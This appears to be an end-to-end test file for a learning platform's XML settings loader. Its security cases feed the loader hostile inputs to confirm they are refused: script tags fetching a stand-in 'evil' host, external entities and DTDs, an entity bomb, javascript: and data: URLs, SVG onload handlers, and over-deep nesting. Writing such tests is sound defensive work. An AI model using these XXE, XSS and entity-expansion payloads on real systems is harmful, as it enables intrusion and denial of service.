import type { Page } from 'playwright-core';
import { beforeAll, describe, expect, test } from 'vitest';
import { arriveBeforeAll, newCast, visitBeforeAll } from '../src/journeys.ts';
import type { Learner } from '../src/learner.ts';

/* The environment file of the demo platform, and row 33 of the security cases. */

const [mia] = newCast();

let learner: Learner;
let page: Page;
/** Every address that the page and its frame have asked for. */
const requested: string[] = [];

const { platform } = visitBeforeAll();
arriveBeforeAll((arrival) => ({ learner, page } = arrival));
beforeAll(() => {
  page.on('request', (request) => requested.push(request.url()));
});

const stored = () => page.evaluate(() => localStorage.getItem('prosEnvironment'));
const settingsOfDemo = {
  '@name': 'demo',
  'support/page': 'https://lectern.example/hilfe',
  'support/mail': 'mailto:hilfe@lectern.example',
};
/** Files come from an origin of their own. */
const isFile = (address: string) => address.startsWith(`${platform.files}/public/`);
const isOfEnvironment = (address: string) =>
  address.includes('/atma/v1/file/accessBasic') || isFile(address);

/** Has the file gateway's address give this file. */
const serve = (xml: string) =>
  page.route(`${platform.files}/public/**`, (route) =>
    route.fulfill({
      contentType: 'application/xml',
      headers: { 'Access-Control-Allow-Origin': '*' },
      body: xml,
    }),
  );

/**
 * Has the page load its environment anew, by the chunk with which it has done so.
 *
 * @returns why it was refused, as name and message.
 */
function loadAnew(): Promise<string | undefined> {
  const chunk = requested.find((address) => address.includes('/assets/load-environment-'))!;
  // A text, as vitest would have the import be its own.
  return page.evaluate<string | undefined>(`(async () => {
    const { loadEnvironment } = await import(${JSON.stringify(chunk)});
    const address = ${JSON.stringify(`${platform.files}/public/environment.xml`)};
    const fileAccessBasic = async () => ({ file_accesses: [{ file: { address } }] });
    const clientOf = () => ({ fileAccessBasic });
    return loadEnvironment(clientOf, { basicSecret: 's' }).then(() => undefined, String);
  })()`);
}

test('is fetched after the content and kept, for those who are signed in', async () => {
  await page.goto(platform.shell);
  await page.getByRole('button', { name: 'Anmelden', exact: true }).waitFor();
  await learner.enter(mia);
  await expect
    .poll(async () => JSON.parse((await stored()) ?? 'null') as unknown)
    .toEqual(settingsOfDemo);
  const ofContent = requested.findIndex((address) => address.startsWith(platform.content));
  expect(ofContent).toBeGreaterThanOrEqual(0);
  expect(requested.findIndex(isOfEnvironment)).toBeGreaterThan(ofContent);
  expect(requested.filter(isOfEnvironment)).toHaveLength(2);
});

test('comes again beside the content of a page that is loaded anew', async () => {
  await page.evaluate(() => localStorage.removeItem('prosEnvironment'));
  await page.reload();
  await expect.poll(stored).not.toBeNull();
});

test('reads what a file of settings may have', async () => {
  await serve(
    `<?xml version="1.0"?><e><!-- a remark --><servers><s id="1">https://a.example</s><s>b</s></servers>
     <constructor>c</constructor><text><![CDATA[1 < 2 <!DOCTYPE]]></text><time> 10:30 </time><none/>
     <notice>Achtung: Wartung am <em>Montag</em>, ab 8 Uhr</notice><data>Data: siehe, unten</data>
     <!-- <!DOCTYPE e> --><html>data: siehe html-Seite, unten</html><course>JavaScript: Einführung, Teil 2</course>
     <proxy>localhost:8080</proxy><name>urn:lectern:demo</name><folder>C:\\data</folder>
     <icon>data:image/png;base64,AA==</icon><own xmlns="urn:of-a-publisher"><o:x xmlns:o="urn:o" o:y="1"/></own></e>`,
  );
  expect(await loadAnew()).toBeUndefined();
  expect(JSON.parse((await stored())!)).toEqual({
    'servers/s[1]': 'https://a.example',
    'servers/s[1]@id': '1',
    'servers/s[2]': 'b',
    constructor: 'c',
    text: '1 < 2 <!DOCTYPE',
    time: '10:30',
    none: '',
    notice: 'Achtung: Wartung am Montag, ab 8 Uhr',
    'notice/em': 'Montag',
    data: 'Data: siehe, unten',
    html: 'data: siehe html-Seite, unten',
    course: 'JavaScript: Einführung, Teil 2',
    proxy: 'localhost:8080',
    name: 'urn:lectern:demo',
    folder: 'C:\\data',
    icon: 'data:image/png;base64,AA==',
    'own/x': '',
    'own/x@o:y': '1',
  });
});

describe('row 33: a file is refused, and no request made, that has', () => {
  const bomb = Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`,
  ).join('');

  beforeAll(() => page.evaluate(() => localStorage.setItem('prosEnvironment', 'as before')));

  test.each([
    ['a script', '<e><script>fetch("http://evil.localhost/")</script></e>'],
    ['a script of capitals', '<e><SCRIPT src="http://evil.localhost/s.js"/></e>'],
    ['a script of a page', '<e><s xmlns="http://www.w3.org/1999/xhtml" onclick="alert(1)"/></e>'],
    ['a picture', '<e><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/></e>'],
    ['an external entity', '<!DOCTYPE e [<!ENTITY x SYSTEM "http://evil.localhost/x">]><e>&x;</e>'],
    ['an external document type', '<!DOCTYPE e SYSTEM "http://evil.localhost/e.dtd"><e/>'],
    ['an entity bomb', `<!DOCTYPE e [<!ENTITY e0 "lol">${bomb}]><e>&e9;</e>`],
    ['a style sheet', '<?xml-stylesheet href="http://evil.localhost/s.xsl"?><e/>'],
    ['an address that runs', '<e><page>javascript:alert(1)</page></e>'],
    ['a script without brackets', '<e><page>javascript: a`b`</page></e>'],
    ['an address that runs, disguised', '<e><page> java&#10;script:alert(1)</page></e>'],
    ['an address that runs, as an attribute', '<e page="JavaScript:alert(1)"/>'],
    ['an address of a script of old', '<e><page>vbscript:x</page></e>'],
    ['an address that is its own page', '<e><page>data:text/html,x</page></e>'],
    [
      'an address that is its own drawing',
      '<e><page>DATA:image/svg+xml;base64,PHN2Zy8+</page></e>',
    ],
    ['no end', '<e><page>'],
    ['no XML', '{"support":"x"}'],
    ['more depth than anything needs', '<a>'.repeat(200) + '</a>'.repeat(200)],
    ['more elements than anything needs', `<a>${'<b/>'.repeat(1_001)}</a>`],
  ])('%s', async (_what, xml) => {
    await serve(xml);
    expect(await loadAnew()).toMatch(/^EnvironmentError: /);
    expect(await stored()).toBe('as before');
    expect(requested.filter((address) => address.includes('evil'))).toEqual([]);
  });
});

test.each([
  ['an instruction that looks like a comment', '<?x <!-- ?>', '<!--x-->'],
  ['an instruction that looks like a section', '<?x <![CDATA[ ?>', '<![CDATA[x]]>'],
  ['a comment that looks like an instruction', '<!-- <?x -->', '<?x y?>'],
  ['a comment that looks like a section', '<!-- <![CDATA[ -->', '<![CDATA[x]]>'],
])('no entity is replaced after %s', async (_what, before, after) => {
  await serve(`${before}<!DOCTYPE e [<!ENTITY x "lol">]><e>&x;${after}</e>`);
  expect(await loadAnew()).toBe('EnvironmentError: a document type');
});

test('what is refused is said on the console', async () => {
  await serve('<e><script>fetch("http://evil.localhost/")</script></e>');
  const refused = page.waitForEvent('console', (message) =>
    message.text().startsWith('Could not load the environment file.'),
  );
  await page.reload();
  expect((await refused).text()).toContain('a script: script');
  expect(await stored()).toBe('as before');
  expect(requested.filter((address) => address.includes('evil'))).toEqual([]);
});
